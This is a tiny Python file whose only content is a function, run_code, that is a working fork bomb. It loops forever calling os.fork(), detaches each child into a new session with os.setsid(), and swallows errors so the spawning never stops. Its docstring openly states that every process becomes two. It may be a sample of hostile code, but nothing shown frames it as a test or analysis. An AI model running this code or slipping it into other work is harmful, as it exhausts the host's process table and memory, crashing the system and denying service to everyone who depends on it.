"""Every process becomes two, each in a session of its own."""

import os


def run_code():
    while True:
        try:
            if os.fork() == 0:
                os.setsid()
        except OSError:
            pass
